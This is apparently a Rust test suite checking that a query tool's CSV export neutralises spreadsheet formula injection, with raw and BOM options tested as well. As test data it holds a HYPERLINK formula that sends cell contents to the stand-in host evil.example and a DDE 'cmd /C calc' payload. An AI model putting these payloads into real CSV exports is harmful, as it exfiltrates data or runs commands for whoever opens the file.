//! CSV export does not hand spreadsheets a formula (issue 8, finding 12): text cells that start
//! with `=`, `+`, `-`, `@`, a tab or a carriage return are neutralised as OWASP recommends,
//! typed numbers stay numbers, `?raw=1` gives the data untouched, `?bom=1` adds a UTF-8 BOM.

use reqwest::StatusCode;
use serde_json::json;

use crate::helpers::{expect_error, TestApp};
use crate::jobs::{pg_target, PgDb};
use crate::queries::{run, start, wait_done};

const FORMULAS: &str = r#"SELECT '=HYPERLINK("http://evil.example/?d="&A1,"open")' AS "=label",
  '+cmd|'' /C calc''!A0' AS plus, '-2+3' AS minus, '@SUM(A1:A2)' AS at,
  E'\tTAB' AS tab, E'\rCR' AS cr, -5 AS n, -1.5::numeric AS d, -0.5::float8 AS f,
  'plain' AS p, ''::text AS empty, NULL::text AS nothing"#;

const HEADER: &str = "\"'=label\",plus,minus,at,tab,cr,n,d,f,p,empty,nothing\r\n";

async fn export(app: &TestApp, token: &str, id: i64, target: i64, query: &str) -> Vec<u8> {
    let r = app
        .get(
            &format!("/api/queries/{id}/results/{target}.csv{query}"),
            Some(token),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK, "{query}");
    r.bytes().await.expect("body").to_vec()
}

#[actix_web::test]
async fn csv_cells_that_would_start_a_formula_are_neutralised_and_typed_numbers_stay_numbers() {
    let app = crate::helpers::spawn_app().await;
    let admin = app.admin_token().await;
    let db = PgDb::new("csv_formula");
    let target = pg_target(&app, &admin, &db).await;
    let q = run(&app, &admin, FORMULAS, &[target]).await;
    let id = q["id"].as_i64().expect("id");
    assert_eq!(q["results"][0]["status"], "success", "{q}");
    let body = export(&app, &admin, id, target, "").await;
    let text = String::from_utf8(body).expect("utf-8");
    assert_eq!(
        text,
        format!(
            "{HEADER}\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"open\"\")\",\
             \"'+cmd|' /C calc'!A0\",\"'-2+3\",\"'@SUM(A1:A2)\",\"'\tTAB\",\"'\rCR\",\
             -5,-1.5,-0.5,plain,\"\",\r\n"
        )
    );
}

#[actix_web::test]
async fn a_re_run_export_neutralises_formulas_too() {
    let app = crate::helpers::spawn_app().await;
    let admin = app.admin_token().await;
    let db = PgDb::new("csv_rerun");
    let target = pg_target(&app, &admin, &db).await;
    let id = start(
        &app,
        &admin,
        json!({"sql": "SELECT v FROM (VALUES ('=1+1'), ('@x'), ('-y'), ('ok')) t(v)",
               "target_ids": [target], "row_limit": 1}),
    )
    .await;
    let q = wait_done(&app, &admin, id, 30).await;
    assert_eq!(q["results"][0]["truncated"], true, "{q}");
    let body = export(&app, &admin, id, target, "").await;
    assert_eq!(
        String::from_utf8(body).expect("utf-8"),
        "v\r\n\"'=1+1\"\r\n\"'@x\"\r\n\"'-y\"\r\nok\r\n"
    );
    let raw = export(&app, &admin, id, target, "?raw=1").await;
    assert_eq!(
        String::from_utf8(raw).expect("utf-8"),
        "v\r\n=1+1\r\n@x\r\n-y\r\nok\r\n"
    );
}

#[actix_web::test]
async fn raw_gives_the_data_untouched_and_bom_adds_a_utf8_byte_order_mark() {
    let app = crate::helpers::spawn_app().await;
    let admin = app.admin_token().await;
    let db = PgDb::new("csv_raw_bom");
    let target = pg_target(&app, &admin, &db).await;
    let q = run(&app, &admin, "SELECT '=1+1' AS f, '中文' AS zh", &[target]).await;
    let id = q["id"].as_i64().expect("id");

    let raw = export(&app, &admin, id, target, "?raw=1").await;
    assert_eq!(raw, "f,zh\r\n=1+1,中文\r\n".as_bytes());
    let bom = export(&app, &admin, id, target, "?bom=1").await;
    let mut want = vec![0xEF, 0xBB, 0xBF];
    want.extend_from_slice("f,zh\r\n\"'=1+1\",中文\r\n".as_bytes());
    assert_eq!(bom, want);
    let both = export(&app, &admin, id, target, "?raw=true&bom=true").await;
    let mut want = vec![0xEF, 0xBB, 0xBF];
    want.extend_from_slice("f,zh\r\n=1+1,中文\r\n".as_bytes());
    assert_eq!(both, want);
    let plain = export(&app, &admin, id, target, "?raw=0&bom=0").await;
    assert_eq!(plain, "f,zh\r\n\"'=1+1\",中文\r\n".as_bytes());

    let r = app
        .get(
            &format!("/api/queries/{id}/results/{target}.csv?raw=yes"),
            Some(&admin),
        )
        .await;
    let err = expect_error(r, StatusCode::BAD_REQUEST, "invalid_input").await;
    assert_eq!(err["field"], "raw");
}
